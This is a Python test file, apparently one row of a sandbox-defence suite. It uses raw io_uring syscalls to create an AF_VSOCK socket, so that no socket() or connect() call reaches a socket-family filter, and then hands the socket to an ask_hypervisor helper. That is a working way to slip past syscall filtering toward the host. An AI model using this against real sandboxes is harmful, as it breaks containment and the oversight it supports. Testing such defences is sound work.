# SPDX-License-Identifier: GPL-2.0-or-later
# row: D3
# what: a socket that io_uring makes
# defences: socket_families
# arrives: answer
import ctypes
import mmap
import os
import socket
import struct

from attempt import ask_hypervisor, cannot

SETUP, ENTER, OP_SOCKET, GETEVENTS = 425, 426, 45, 1
AF_VSOCK = 40
libc = ctypes.CDLL(None, use_errno=True)


def set_up():
    params = ctypes.create_string_buffer(120)
    ring = libc.syscall(SETUP, 2, params)
    if ring < 0:
        cannot(f"io_uring_setup: {os.strerror(ctypes.get_errno())}")
    return ring, struct.unpack_from("=10I", params, 40), struct.unpack_from("=10I", params, 80)


def make_socket():
    """Only io_uring speaks here; connect() and send() are nothing that a filter could refuse."""
    ring, sq, cq = set_up()
    queue = mmap.mmap(ring, 4096, offset=0)
    done = mmap.mmap(ring, 4096, offset=0x8000000)
    entries = mmap.mmap(ring, 4096, offset=0x10000000)
    # opcode, flags, ioprio, fd = domain, off = type, addr, len = protocol
    struct.pack_into("=BBHiQQI", entries, 0, OP_SOCKET, 0, 0, AF_VSOCK, socket.SOCK_STREAM, 0, 0)
    struct.pack_into("=I", queue, sq[6], 0)
    struct.pack_into("=I", queue, sq[1], 1)
    libc.syscall(ENTER, ring, 1, 1, GETEVENTS, None, 0)
    return struct.unpack_from("=Qi", done, cq[5])[1]


made = make_socket()
if made < 0:
    cannot(f"IORING_OP_SOCKET: {os.strerror(-made)}")
ask_hypervisor(socket.socket(AF_VSOCK, socket.SOCK_STREAM, 0, made))
